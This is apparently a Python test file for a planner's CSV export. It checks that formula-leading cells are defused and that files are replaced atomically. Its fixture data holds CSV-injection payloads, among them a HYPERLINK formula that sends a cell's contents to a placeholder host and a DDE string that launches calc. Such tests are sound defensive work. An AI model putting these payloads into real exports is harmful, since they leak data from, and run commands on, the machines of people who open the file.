"""Every CSV the planner writes is formula-safe and appears whole or not at all."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from planner.cli import main
from planner.tabular import defuse, write_csv

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh, delimiter=";") for cell in row]


@given(st.text())
def test_defused_text_is_never_a_formula(text: str) -> None:
    safe = defuse(text)
    number = re.fullmatch(r"[+-]?[0-9]+([.,][0-9]+)?", text, flags=re.ASCII) is not None
    if text.startswith(DANGEROUS) and not number:
        assert safe == "'" + text
    else:
        assert safe == text


@pytest.mark.parametrize("value", ["-3", "+12", "-0,5", "8.25"])
def test_plain_numbers_stay_numbers(value: str) -> None:
    assert defuse(value) == value


def test_check_report_defuses_every_cell(tmp_path: Path) -> None:
    clients = tmp_path / "kunden.csv"
    clients.write_text(
        "Kunden-Nr;Straße;PLZ;Ort;Hinweise\n"
        '1001;=HYPERLINK("http://x.invalid/?d="&A1);35578;Wetzlar;\n'
        "1002;Hauptstr. 1;35578;+cmd|' /C calc'!A0;\n"
        "1003;Hauptstr. 2;35578;@SUM(1+1);\n"
        "1004;Hauptstr. 3;35578;Wetzlar;-2+3\n"
        "@1005;Hauptstr. 4;35578;Wetzlar;\n"
        "=1+1;Hauptstr. 5;35578;Wetzlar;\n",
        encoding="utf-8",
    )
    report = tmp_path / "bericht.csv"
    assert main(["check", "--clients", str(clients), "--report", str(report)]) == 0
    cells = _cells(report)
    assert len(cells) == 7 * 9
    for cell in cells:
        assert not cell.startswith(DANGEROUS), cell


def test_write_csv_replaces_the_file_whole(tmp_path: Path) -> None:
    target = tmp_path / "plan.csv"
    write_csv(target, ["a"], [{"a": "alt"}])

    def rows():  # the writer dies half-way, e.g. on Ctrl+C
        yield {"a": "neu"}
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_csv(target, ["a"], rows())
    assert _cells(target) == ["a", "alt"]
    assert [p.name for p in tmp_path.iterdir()] == ["plan.csv"]  # no temporary left
